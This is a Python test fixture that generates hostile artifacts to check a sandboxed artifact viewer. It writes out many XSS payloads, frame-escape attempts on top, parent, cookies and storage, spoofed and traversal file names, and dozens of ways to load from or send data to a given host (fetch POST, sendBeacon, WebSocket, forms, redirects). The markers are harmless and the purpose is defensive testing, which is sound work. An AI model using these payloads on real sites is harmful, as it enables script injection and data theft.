"""Artifacts that try to run as our page, and to reach something: in their contents and in their names."""

from collections.abc import Iterator
from typing import Any

CSP_COMPLAINTS = (
    r"Content Security Policy|sandbox|Failed to load|Refused to|violates|ERR_BLOCKED|Unsafe attempt|Blocked|"
    r"about:srcdoc|SecurityError|frame with origin|Uncaught|uncaught"
)
"""What the browser says of each try; in the frame, which is nobody's."""

NAMES = [
    "<script>window.escaped = 1</script>",
    "<img src=x onerror=window.escaped=1>",
    '"><svg onload=window.escaped=1>',
    "javascript:window.escaped=1",
    "{{constructor.constructor('window.escaped=1')()}}",
    "</title><script>top.escaped=1</script>",
    "' onmouseover='window.escaped=1' autofocus onfocus='window.escaped=1",
    "data:text/html,<script>top.escaped=1</script>",
    "&#60;script&#62;window.escaped=1&#60;/script&#62;",
    "../../../escaped.html",
    "a\u202egpj.escaped",
    "[x](javascript:window.escaped=1)",
]
TOUCHES = [
    "parent.parent.escaped = 1", "top.escaped = 1", "top.localStorage.escaped = 1", "localStorage.escaped = 1",
    "document.cookie = 'escaped=1'", "parent.document.body.innerHTML = 'escaped'", "top.document.title = 'escaped'",
    "top.eval('window.escaped = 1')", "top.postMessage({ kind: 'ready' }, '*')", "alert('escaped')", "print()",
    "parent.postMessage({ kind: 'broken', text: '<img src=x onerror=window.escaped=1>' }, '*')",
    "indexedDB.open('locrit').onsuccess = () => { top.escaped = 1 }",
]  # fmt: skip
LOADS = [
    "fetch('{at}')", "fetch('{at}', {{ mode: 'no-cors', method: 'POST', body: 'x' }})", "new Image().src = '{at}'",
    "navigator.sendBeacon('{at}', 'x')", "new WebSocket('{at}'.replace('http', 'ws'))", "new EventSource('{at}')",
    "import('{at}')", "new Worker('{at}')", "new Worker(URL.createObjectURL(new Blob([\"fetch('{at}')\"])))",
    "navigator.serviceWorker.register('{at}')", "window.open('{at}')", "top.location = '{at}'",
    "parent.location = '{at}'", "new FontFace('x', 'url({at})').load()", "navigator.serviceWorker.ready",
    "const x = new XMLHttpRequest(); x.open('GET', '{at}'); x.send()", "new Audio('{at}').play()",
    "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={at}><link rel=prefetch href={at}>')",
    "const f = document.createElement('form'); f.action = '{at}'; document.body.append(f); f.submit()",
    "const a = document.createElement('a'); a.href = '{at}'; a.target = '_blank'; a.ping = '{at}'; a.click()",
]  # fmt: skip
MARKUP = (
    '<img src="{at}"><iframe src="{at}"></iframe><object data="{at}"></object><embed src="{at}"><video src="{at}">'
    '</video><link rel="stylesheet" href="{at}"><link rel="prefetch" href="{at}"><script src="{at}"></script>'
    '<style>@import "{at}"; body {{ background: url("{at}") }}</style><base href="{at}"><form action="{at}">'
    '<input autofocus onfocus="this.form.submit()"></form><table background="{at}"></table>'
    '<svg><image href="{at}"/><use href="{at}#x"/></svg><input type=image src="{at}"><audio src="{at}"></audio>'
    "<iframe srcdoc=\"<script>top.escaped = 1; location = '{at}'</script>\"></iframe>"
    '<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{at}"]}}]}}</script>'
)
LEAVES = [
    "<script>location = '{at}'</script>",
    "<script>location.replace('{at}')</script>",
    '<meta http-equiv="refresh" content="0;url={at}">',
    '<a id="a" href="{at}">x</a><script>a.click()</script>',
    '<form id="f" action="{at}" target="_self"></form><script>f.submit()</script>',
    "<script>window.name = 'x'; open('{at}', '_self')</script>",
]
MARKDOWN = """<script>window.escaped = 1</script> <img src=x onerror=window.escaped=1> ![x]({at})

[x](javascript:window.escaped=1) [x](data:text/html,<script>top.escaped=1</script>)

<a href="javascript:window.escaped=1">x</a> <iframe src="{at}"></iframe> <details open ontoggle=window.escaped=1>

<svg onload=window.escaped=1> <{at}> $\\href{{javascript:window.escaped=1}}{{x}}$
"""
MERMAID = """graph TD
  A["<img src=x onerror=window.escaped=1>"] --> B
  click A "javascript:window.escaped=1"
  click B call alert("escaped")
  B --> C["<script>window.escaped=1</script>"]
"""


def hostile(elsewhere: str, ours: str) -> Iterator[dict[str, Any]]:
    """Each with a name that tries its luck too; `elsewhere` and `ours` are what they try to reach."""
    for number, (type_, content) in enumerate(_contents(elsewhere, ours)):
        name, css = NAMES[number % len(NAMES)], "</style><script>top.escaped=1</script>"
        yield {"type": type_, "name": name, "content": content, "css": css}


def _contents(*places: str) -> Iterator[tuple[str, str]]:
    tries = [*TOUCHES, *(one.format(at=at) for one in LOADS for at in places)]
    scripts = "".join(f"<script>try {{ {one} }} catch {{}}</script>" for one in tries)
    yield "html", f"<!doctype html><body>{scripts}"
    yield "html", "<!doctype html><body>" + "".join(MARKUP.format(at=at) for at in places)
    yield "svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.escaped = 1">{scripts}</svg>'
    body = "".join(f"try {{ {one} }} catch {{}}\n" for one in tries)
    markup = "{{ __html: '<img src=x onerror=top.escaped=1>' }}"
    yield "jsx", f"{body}\nexport default () => <p dangerouslySetInnerHTML={markup} />"
    yield "jsx", "</script><script>top.escaped = 1</script><!--<script>"
    yield "markdown", MARKDOWN.format(at=places[0])
    yield "mermaid", MERMAID
    yield "code", scripts
    for at, leave in zip(places * len(LEAVES), LEAVES, strict=False):
        yield "html", f"<!doctype html><body>{leave.format(at=at)}"
